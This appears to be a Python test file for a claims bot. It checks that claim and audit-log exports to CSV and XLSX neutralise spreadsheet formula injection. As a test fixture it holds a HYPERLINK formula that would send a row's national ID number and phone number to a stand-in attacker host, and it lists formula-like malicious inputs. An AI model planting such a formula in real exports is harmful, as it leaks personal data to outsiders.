"""What people type is never a live formula in a file a spreadsheet opens (OWASP CSV injection): claims exports
through `tuwai export claims`, the audit log through `tuwai audit export`."""

from __future__ import annotations

import csv
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.app import App
from bot.cli.main import build_parser
from bot.files.sheet_cells import csv_text, looks_like_formula
from db import queries
from db.rules.months import Month
from tests.claims.steps import JKM_DOCS, report_death, seed_worker, send_documents
from tests.people import NIK_MALE, Person, RecordingChannel

# The tester's example: clicking "Lihat foto" would send the row's NIK (column G) and phone (K) away.
PLACE = '=HYPERLINK("http://evil.example/c?"&G2&"-"&K2,"Lihat foto")'


async def run_command(app: App, *argv: str) -> int:
    args = build_parser().parse_args(list(argv))
    return await args.func(app.settings, args)


@pytest.mark.parametrize(("text", "formula"), [
    ("=1+1", True), ("+1+1", True), ("-1+cmd", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
    ("\tkebun", True), ("  =1+1", True), ("\u00a0@x", True), ("-", True), ("--", True),
    ("Di rumah", False), ("a=1", False), ("+6281234567890", False), ("-5", False), ("12,5", False), ("", False),
])
def test_what_looks_like_a_formula(text: str, formula: bool) -> None:
    assert looks_like_formula(text) is formula
    assert csv_text(text) == ("'" + text if formula else text)


async def test_a_formula_typed_in_a_claim_is_text_in_both_exports(app: App, inbox: RecordingChannel, clock,
                                                                   tmp_path: Path) -> None:
    await seed_worker(app, start=date(2026, 6, 1), paid_through=Month(2026, 12))
    family = Person(app, "family")
    await report_death(family, place=PLACE)
    await send_documents(family, inbox, JKM_DOCS)
    await family.press("Kirim klaim")

    book = tmp_path / "claims.xlsx"
    assert await run_command(app, "export", "claims", "--format", "xlsx", "--output", str(book)) == 0
    sheet = load_workbook(book).active
    header = [cell.value for cell in sheet[1]]
    place = sheet.cell(2, header.index("Tempat kejadian") + 1)
    assert (place.value, place.data_type) == (PLACE, "s")  # a string, not a formula
    assert place.quotePrefix  # and it stays text if an officer edits the cell
    assert sheet.cell(2, header.index("NIK") + 1).value == NIK_MALE  # column G, still text
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(2, header.index("Tanggal kejadian") + 1).is_date  # numbers and dates stay typed
    assert sheet.cell(2, header.index("Jumlah dokumen") + 1).value == 7

    out = tmp_path / "claims.csv"
    assert await run_command(app, "export", "claims", "--format", "csv", "--output", str(out)) == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["Tempat kejadian"] == "'" + PLACE
    assert row["NIK"] == NIK_MALE and row["Jumlah dokumen"] == "7"
    raw = out.read_text(encoding="utf-8-sig")
    # Every text field quoted (a ";" inside a text cannot start a new cell where Excel splits on semicolons);
    # numbers are not, so they stay numbers.
    assert '"\'=HYPERLINK(""http://evil.example/c?""&G2&""-""&K2,""Lihat foto"")"' in raw
    assert f'"{NIK_MALE}"' in raw and ",42000000,7," in raw


async def test_the_audit_export_writes_typed_details_as_text(app: App, tmp_path: Path) -> None:
    async with app.sessions() as session, session.begin():
        await queries.audit(session, actor="console:officer", action="claim_reject", target="claim:1",
                            now=datetime(2026, 11, 22, tzinfo=timezone.utc), reason="=1+1")
        await queries.audit(session, actor="@evil", action="view", target="worker:1",
                            now=datetime(2026, 11, 22, tzinfo=timezone.utc))
    for fmt in ("csv", "xlsx"):
        output = tmp_path / f"audit.{fmt}"
        assert await run_command(app, "audit", "export", "--output", str(output)) == 0
        if fmt == "csv":
            with output.open(encoding="utf-8-sig", newline="") as handle:
                actors = [row["actor"] for row in csv.DictReader(handle)]
            assert "'@evil" in actors
        else:
            sheet = load_workbook(output).active
            cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
            assert "@evil" in [cell.value for cell in cells]
            assert all(cell.data_type != "f" for cell in cells)
